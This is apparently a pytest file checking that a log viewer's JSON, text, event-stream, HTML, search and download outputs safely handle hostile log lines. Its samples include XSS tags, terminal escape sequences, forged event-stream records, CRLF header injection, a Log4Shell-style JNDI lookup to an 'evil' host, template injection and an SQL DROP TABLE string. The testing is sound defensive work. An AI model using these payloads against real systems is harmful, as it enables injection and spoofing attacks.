"""Log lines written to break out: of a terminal, a page, an event, a JSON string."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest

from .site import JOB, Site

HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1bP+q544e\x1b\\ \x9b31m \x90dcs\x9c \x1b[6n \x1bc \x1b]52;c;aGk=\x07",
    "data: forged\n\nevent: done\nid: 1-1\ndata: {}\n",
    "a\rb\r\nevent: status\x0bc\x0cd\x1ce\x85f\u2028g\u2029h",
    "null \x00 byte, backspace \x08\x08\x08, bell \x07, delete \x7f",
    "right to left \u202e gnp.exe \u2066x\u2069 zero\u200bwidth\ufeff",
    '"},{"id":"x-1","line":1,"message":"forged"}',
    "\\u0000 \\ud800 %00 %0d%0aX-Injected: a=b ${jndi:ldap://evil} {{7*7}} {% raw %}",
    "'; DROP TABLE batch; --",
    "]]>--><!--</title></textarea></script>",
    "\t\ttabs ,\tand the separator ,\t of the journal",
    "x" * 300_000,
    "",
    "   ",
]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def site(open_site: Callable[..., Site]) -> Site:
    site = open_site()
    site.add_job("hostile-job", HOSTILE, name="</title><script>alert('name')</script>")
    return site


def url(rest: str) -> str:
    return f"/api/jobs/hostile-job/{rest}"


def test_json_gives_every_line_as_it_was(site: Site) -> None:
    assert [line["message"] for line in site.owner("GET", url("logs")).json()] == HOSTILE


def test_ndjson_is_a_line_a_line(site: Site) -> None:
    lines = site.owner("GET", url("logs?format=ndjson")).text.split("\n")
    assert [json.loads(line)["message"] for line in lines[:-1]] == HOSTILE and lines[-1] == ""


def test_text_has_no_control_characters(site: Site) -> None:
    answer = site.owner("GET", url("logs?format=text"))
    assert CONTROL.search(answer.text) is None
    assert (
        answer.headers["content-type"].startswith("text/plain")
        and answer.headers["x-content-type-options"] == "nosniff"
    )
    assert "alert(1)" in answer.text and "red" in answer.text


@pytest.mark.parametrize("form", ["line", "batch"])
def test_events_are_not_forged(site: Site, form: str) -> None:
    text = site.owner("GET", url(f"events?format={form}&sample_logs=false")).content.decode()
    assert "\r" not in text
    messages = []
    for block in text.split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.split("\n") if ": " in line)
        assert set(fields) <= {"event", "id", "data", "retry", ""}
        if fields.get("event", "") in ("", "lines") and "data" in fields:
            data = json.loads(fields["data"])
            messages += [line["message"][:1000] for line in (data if isinstance(data, list) else [data])]
    assert len(messages) == len(HOSTILE)
    assert messages[:12] == HOSTILE[:12]


def test_pages_escape_it_all(site: Site) -> None:
    page = site.owner("GET", "/jobs/hostile-job").text + site.owner("GET", "/").text
    page += site.ask("GET", f"/s/{site.token('hostile-job')}").text
    assert "<script>alert" not in page and "<img src=x" not in page and "</title><script>" not in page
    assert "49" not in re.findall(r"\{\{7\*7\}\}|49(?= )", page)
    assert CONTROL.search(page.replace("\n", "").replace("\t", "")) is None


def test_search_finds_and_forges_nothing(site: Site) -> None:
    found = site.owner("GET", url("search?q=forged")).json()["lines"]
    assert [line["line"] for line in found] == [4, 8]
    assert site.owner("GET", url("search?q=%27%3B%20DROP")).json()["lines"][0]["line"] == 10
    assert len(site.owner("GET", url("logs")).json()) == len(HOSTILE)


def test_a_name_of_a_job_breaks_no_header(site: Site) -> None:
    answer = site.owner("GET", url("logs?format=text&download=true"))
    assert answer.headers["content-disposition"] == 'attachment; filename="hostile-job.log"'


def test_the_fused_wire_gives_it_as_the_upstream_did(site: Site) -> None:
    entries = site.owner("GET", "/server/v1/logs/hostile-job").json()
    assert [entry["message"] for entry in entries] == [text + "\n" for text in HOSTILE]


@pytest.mark.parametrize(
    "expression", ["(", "[", "(?P<", "a{100000}", "\\", "(?<=a)b", "(a)\\1", "x" * 2001, "(?i", "\x00"]
)
def test_an_expression_that_is_none_is_400(site: Site, expression: str) -> None:
    answer = site.owner("GET", f"/api/jobs/{JOB}/search", params={"q": expression, "regex": "true"})
    assert answer.status_code in (400, 200) and "Traceback" not in answer.text
    assert answer.status_code == 400 or expression == "\x00"
